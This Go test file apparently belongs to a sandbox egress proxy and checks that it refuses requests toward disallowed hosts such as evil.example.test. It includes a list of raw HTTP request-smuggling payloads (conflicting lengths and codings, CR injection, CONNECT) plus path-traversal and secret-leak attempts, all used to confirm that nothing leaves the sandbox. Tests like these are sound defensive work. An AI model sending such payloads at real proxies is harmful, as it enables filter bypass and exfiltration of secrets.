package egress

import (
	"encoding/base64"
	"encoding/hex"
	"strings"
	"testing"
)

// webRows: what HTTP can be made to mean.
var webRows = []row{
	{21, "http, https and WebSocket to one destination", func(t *testing.T, w *world, f string) {
		for _, words := range [][]string{
			{"fetch", "addr=evil.example.test:80", "host=evil.example.test"},
			{"fetch", "addr=evil.example.test:443", "sni=evil.example.test", "host=evil.example.test"},
			{"websocket", "addr=evil.example.test:80", "host=evil.example.test", "path=/socket"},
			{"websocket", "addr=evil.example.test:443", "sni=evil.example.test", "host=evil.example.test", "path=/socket"},
		} {
			w.refuses(t, append(words, "family="+f)...)
		}
		// A method and a path that the rule does not name, by request and by WebSocket.
		w.refusesInside(t, "paths.example.test", "fetch", "addr=paths.example.test:443", "sni=paths.example.test", "host=paths.example.test", "path=/other/", "family="+f)
		w.refusesInside(t, "paths.example.test", "websocket", "addr=paths.example.test:443", "sni=paths.example.test", "host=paths.example.test", "path=/socket", "family="+f)
	}, false},
	{22, "requests that can be read in two ways", smuggling, true},
	{23, "a redirect to another host", func(t *testing.T, w *world, _ string) {
		o := w.try(t, "redirect", "url=http://api.example.test/redirect?to=http://other.example.test/there")
		if o.Status != 200 || o.Header["At"] != "http://other.example.test/there" {
			t.Errorf("a redirect to an allowed host: %s", o)
		}
		before := w.in.heard("evil.example.test")
		o = w.try(t, "redirect", "url=http://api.example.test/redirect?to=http://evil.example.test/there")
		if !o.refused() || w.in.heard("evil.example.test") != before {
			t.Errorf("a redirect to evil.example.test: %s", o)
		}
	}, true},
	{24, "a placeholder sent elsewhere", func(t *testing.T, w *world, _ string) {
		o := w.refusesInside(t, "other-inject.example.test", "fetch", "addr=other-inject.example.test:443", "sni=other-inject.example.test",
			"host=other-inject.example.test", "header=Authorization: Bearer BERTH_SECRET_API_KEY")
		if o.Status != 403 {
			t.Errorf("status %d", o.Status)
		}
		w.refusesInside(t, "other-inject.example.test", "fetch", "addr=other-inject.example.test:443", "sni=other-inject.example.test",
			"host=other-inject.example.test", "path=/?key=BERTH_SECRET_API_KEY")
		w.recorded(t, "other-inject.example.test", "placeholder")
		w.passes(t, "fetch", "addr=inject.example.test:443", "sni=inject.example.test", "host=inject.example.test", "header=Authorization: Bearer BERTH_SECRET_API_KEY")
		if got := w.in.lastSecret(); got != "Bearer "+secretValue {
			t.Errorf("the server got %d bytes in place of the placeholder", len(got))
		}
	}, true},
	{25, "an answer that holds the secret", func(t *testing.T, w *world, _ string) {
		for _, path := range []string{"/echo", "/echo-header", "/echo-base64", "/echo-hex", "/echo-gzip", "/echo-split"} {
			o := w.try(t, "fetch", "addr=inject.example.test:443", "sni=inject.example.test", "host=inject.example.test", "path="+path)
			all := o.String() + o.Body + o.Header["X-Echo"]
			for _, form := range []string{secretValue, base64.StdEncoding.EncodeToString([]byte("Bearer " + secretValue)), hex.EncodeToString([]byte(secretValue))} {
				if strings.Contains(all, form) {
					t.Errorf("%s: the sandbox saw the secret", path)
				}
			}
			if o.Status == 0 {
				t.Errorf("%s: %s", path, o)
			}
		}
	}, true},
	{27, "an upgrade to something else", func(t *testing.T, w *world, _ string) {
		for _, to := range []string{"h2c", "TLS/1.2", "evil", "websocket, h2c"} {
			if o := w.try(t, "websocket", "addr=api.example.test:80", "host=api.example.test", "path=/socket", "upgrade="+to); o.Status == 101 {
				t.Errorf("Upgrade to %s: %s", to, o)
			}
		}
		if o := w.try(t, "fetch", "addr=api.example.test:80", "host=api.example.test", "path=/unasked"); o.Status == 101 || strings.Contains(o.Body, "free bytes") {
			t.Errorf("a 101 that nobody asked for: %s", o)
		}
	}, true},
	{30, "HTTP/2 streams for another host", func(t *testing.T, w *world, f string) {
		w.refusesInside(t, "evil.example.test", "h2", "addr=inject.example.test:443", "sni=inject.example.test", "host=inject.example.test", "host2=evil.example.test", "family="+f)
		w.refusesInside(t, "other-inject.example.test", "h2", "addr=inject.example.test:443", "sni=inject.example.test", "host=inject.example.test", "host2=other-inject.example.test", "family="+f)
	}, false},
	{31, "another organisation on the same domain", func(t *testing.T, w *world, _ string) {
		at := []string{"addr=paths.example.test:443", "sni=paths.example.test", "host=paths.example.test"}
		for _, path := range []string{"/globex/x", "/acme/../globex/x", "/acme/%2e%2e/globex/x", "/acme/..%2fglobex/x", "/acmeevil/", "/acme", "//acme/x", "/acme/%00", "/ACME/x"} {
			before := w.in.heard("paths.example.test")
			o := w.try(t, append([]string{"fetch", "path=" + path}, at...)...)
			if !o.refused() || w.in.heard("paths.example.test") != before {
				t.Errorf("%s: %s", path, o)
			}
		}
		o := w.refusesInside(t, "paths.example.test", append([]string{"fetch", "path=/acme/x", "header=Authorization: Bearer the-sandbox's-own"}, at...)...)
		if o.Status != 403 {
			t.Errorf("credentials of the sandbox's own: %s", o)
		}
	}, true},
}

func smuggling(t *testing.T, w *world, _ string) {
	tail := "GET /smuggled HTTP/1.1\r\nHost: evil.example.test\r\n\r\n"
	for name, raw := range map[string]string{
		"two lengths":              "POST /body HTTP/1.1\r\nHost: api.example.test\r\nContent-Length: 0\r\nContent-Length: 55\r\n\r\n" + tail,
		"a list of lengths":        "POST /body HTTP/1.1\r\nHost: api.example.test\r\nContent-Length: 0, 55\r\n\r\n" + tail,
		"length and chunks":        "POST /body HTTP/1.1\r\nHost: api.example.test\r\nContent-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n" + tail,
		"two codings":              "POST /body HTTP/1.1\r\nHost: api.example.test\r\nTransfer-Encoding: chunked\r\nTransfer-Encoding: identity\r\n\r\n0\r\n\r\n" + tail,
		"an odd coding":            "POST /body HTTP/1.1\r\nHost: api.example.test\r\nTransfer-Encoding: xchunked\r\n\r\n0\r\n\r\n" + tail,
		"bare line feeds":          "GET / HTTP/1.1\nHost: api.example.test\n\n" + tail,
		"a folded line":            "GET / HTTP/1.1\r\nHost: api.example.test\r\nX-A: b\r\n Content-Length: 55\r\n\r\n" + tail,
		"a space before the colon": "GET / HTTP/1.1\r\nHost: api.example.test\r\nTransfer-Encoding : chunked\r\n\r\n" + tail,
		"two hosts":                "GET / HTTP/1.1\r\nHost: api.example.test\r\nHost: evil.example.test\r\n\r\n",
		"no host":                  "GET / HTTP/1.1\r\n\r\n",
		"another absolute target":  "GET http://evil.example.test/ HTTP/1.1\r\nHost: api.example.test\r\n\r\n",
		"a NUL in a value":         "GET / HTTP/1.1\r\nHost: api.example.test\r\nX-A: a\x00b\r\n\r\n",
		"a CR in a value":          "GET / HTTP/1.1\r\nHost: api.example.test\r\nX-A: a\rHost: evil.example.test\r\n\r\n",
		"a CONNECT inside":         "CONNECT evil.example.test:443 HTTP/1.1\r\nHost: evil.example.test:443\r\n\r\n",
		"HTTP/0.9":                 "GET /\r\n\r\n",
	} {
		before, smuggled := w.in.heard("evil.example.test"), w.in.all()
		o := w.try(t, "send", "addr=api.example.test:80", "hex="+hex.EncodeToString([]byte(raw)))
		if o.Error == "" && o.Status < 400 {
			t.Errorf("%s: %s", name, o)
		}
		if w.in.heard("evil.example.test") != before || w.in.all() != smuggled {
			t.Errorf("%s: something went out", name)
		}
	}
}
